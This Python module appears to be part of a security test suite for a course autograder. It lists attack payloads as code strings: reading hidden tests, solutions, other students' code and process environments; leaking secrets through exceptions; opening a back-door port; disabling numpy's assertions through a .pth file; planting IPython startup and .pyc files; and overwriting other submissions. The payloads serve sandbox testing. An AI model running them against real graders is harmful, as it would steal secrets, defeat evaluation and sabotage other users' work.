"""Reading what is not theirs, and leaving something behind for others."""

from __future__ import annotations

from .attack import Attack, Scene, coded

READ = """
import glob, os
found = []
for pattern in (PATTERNS):
    for path in glob.glob(pattern, recursive=True):
        if os.path.isfile(path):
            found.append(open(path, errors="replace").read()[:50_000])
print(found)
raise RuntimeError("".join(found) or "nothing was found")
"""
RAISE = """
import os
try:
    text = open("@COURSE@/seeds.key").read()
except OSError as error:
    text = f"not readable: {error.strerror}"
raise ValueError(text + str(dict(os.environ)))
"""
ENVIRON = """
import glob, os
text = ""
for path in [f"/proc/{os.getppid()}/environ", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")]:
    try:
        text += open(path).read()
    except OSError as error:
        text += f"{path}: {error.strerror} "
raise RuntimeError(text)
"""
INPUTS = """
import sys
print(scores, y, delta)
print(scores, y, delta, file=sys.stderr)
raise ValueError(f"{scores!r} {y!r} {delta!r}")
"""
LISTEN = """
import socket
door = socket.socket()
door.bind(("0.0.0.0", @PORT@))
door.listen()
return door.accept()
"""
SITE = """
import os
text = "import numpy.testing; numpy.testing.assert_allclose = lambda *a, **k: None  # @TOKEN@"
for folder in ("@SITE@", "/kit/packages", "/kit/worker", *__import__("sys").path):
    try:
        open(os.path.join(folder, "@TOKEN@.pth"), "x").write(text)
    except OSError:
        pass
return 0.0, np.zeros(scores.shape)
"""
STARTUP = """
import os
for home in ("@HOME@", os.path.expanduser("~"), "/root", "/tmp"):
    try:
        folder = home + "/.ipython/profile_default/startup"
        os.makedirs(folder, exist_ok=True)
        open(folder + "/00-@TOKEN@.py", "w").write("raise SystemExit")
    except OSError:
        pass
return 0.0, np.zeros(scores.shape)
"""
SABOTAGE = """
import glob, os
for path in glob.glob("@COURSE@/submitted/*/*/convnet/*.py") + glob.glob("@INBOUND@/*/convnet/*.py"):
    try:
        open(path, "w").write("raise SystemExit('@TOKEN@')")
    except OSError:
        pass
return 0.0, np.zeros(scores.shape)
"""
PYC = """
import os, py_compile
for folder in ("@KIT@/checking", "@KIT@/checks", "/tmp", "/var/tmp", "/dev/shm", "@OUTSIDE@"):
    try:
        os.makedirs(folder + "/__pycache__", exist_ok=True)
        open(folder + "/__pycache__/@TOKEN@.cpython-311.pyc", "wb").write(b"poison")
    except OSError:
        pass
return 0.0, np.zeros(scores.shape)
"""


def _read(name: str, words: str, *patterns: str) -> Attack:
    return coded(name, words, READ.replace("PATTERNS", ", ".join(map(repr, patterns)) + ","))


def _poison(scene: Scene) -> None:
    scene.body(PYC)
    for name in ("convnet/__pycache__/losses.cpython-311.pyc", "__pycache__/convnet.cpython-311.pyc"):
        scene.write(name, b"\0" * 64)


ATTACKS = [
    _read("read_hidden_tests", "prints the instructor's source", "@REPOSITORY@/source/**/*", "@KIT@/checks/**/*.py"),
    _read("read_solution", "prints the reference", "@REPOSITORY@/solutions/**/*.py", "@REPOSITORY@/solutions/**/*.txt"),
    _read("read_other_submission", "prints another's code", "@COURSE@/submitted/**/*.py", "@INBOUND@/**/*.py"),
    coded("leak_by_exception", "puts secrets into an exception's message", RAISE),
    coded("parent_environ", "reads the environment of other processes", ENVIRON),
    coded("leak_inputs_via_feedback", "prints each input it is called with", INPUTS),
    coded("listen", "opens a port for a back door", LISTEN),
    coded("site_packages_pth", "writes into site-packages", SITE),
    coded("ipython_startup", "writes a start-up file for later students", STARTUP),
    coded("sabotage_other", "breaks other students' submissions", SABOTAGE),
    Attack("pyc_poison", "plants compiled files", _poison, ("hinge_loss",)),
]
